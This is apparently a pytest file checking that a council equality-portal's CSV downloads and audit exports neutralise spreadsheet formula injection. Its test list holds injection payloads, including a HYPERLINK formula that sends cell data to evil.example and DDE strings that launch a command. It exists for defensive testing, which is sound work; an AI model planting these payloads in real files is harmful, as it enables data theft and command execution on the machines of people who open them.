"""No text from content becomes a spreadsheet formula in the CSV files people download or export."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from eqportal.cli import main
from eqportal.csvsafe import safe_cell
from eqportal.loader import load_portal
from eqportal.context import BuildContext
from eqportal.site import generate
from tests.content_factory import decision_fields, eqia_fields, front_matter, write

FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\uff1dSUM(A1)"]


@pytest.mark.parametrize("text", [*FORMULAS, "\t=1+1", "\r=1+1"])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Library opening hours", "-3", "+4.5", "2024-03-01", "", "a=b", "'quoted'"])
def test_ordinary_text_and_plain_numbers_are_unchanged(text):
    assert safe_cell(text) == text


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_open_data_csv_files_never_start_a_cell_with_a_formula(tmp_path):
    write(tmp_path, "eqias/library-opening-hours.md", front_matter(eqia_fields(
        title=FORMULAS[0], summary=FORMULAS[1], directorate=FORMULAS[3], service=FORMULAS[2])))
    write(tmp_path, "decisions/24-00012.md", front_matter(decision_fields(title=FORMULAS[0], decision_maker=FORMULAS[3])))
    portal, problems = load_portal(tmp_path, today=dt.date(2026, 11, 23))
    assert [p for p in problems if "formula" in p.message] == []
    files = {item.src_uri: item.text for item in generate(portal, BuildContext(today=portal.today)) if item.src_uri.endswith(".csv")}
    assert {"data/eqias.csv", "data/decisions.csv"} <= set(files)  # and every other open-data table
    for name, text in files.items():
        cells = _cells(text)
        if name in ("data/eqias.csv", "data/decisions.csv"):
            assert FORMULAS[0] in [c.removeprefix("'") for c in cells], name  # the title is all there
        dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d") and not c.lstrip("+-").replace(".", "").isdigit()]
        assert dangerous == [], name


def test_audit_csv_export_never_starts_a_cell_with_a_formula(tmp_path, monkeypatch, capsys):
    # Run from inside the folder, a file's name is the first thing in its path cell.
    write(tmp_path, "content/decisions/=1+2.md", front_matter(decision_fields(title="=HYPERLINK(1)")))
    monkeypatch.chdir(tmp_path / "content" / "decisions")
    assert main(["audit", "..", "--today", "2026-11-23", "--format", "csv"]) == 1
    cells = _cells(capsys.readouterr().out)
    assert "'=1+2.md" in cells
    assert [c for c in cells if c.startswith(("=", "+", "-", "@"))] == []


def test_an_item_of_a_list_cell_cannot_split_into_two():
    from eqportal.opendata.csvfile import cell
    assert cell(["https://example.org/a;b;c", "mailto:diversity@kent.gov.uk"]) == "https://example.org/a%3Bb%3Bc;mailto:diversity@kent.gov.uk"
    assert cell(["carers; parents", "staff"]) == "carers, parents;staff"
    assert cell(["one", "two"]) == "one;two"
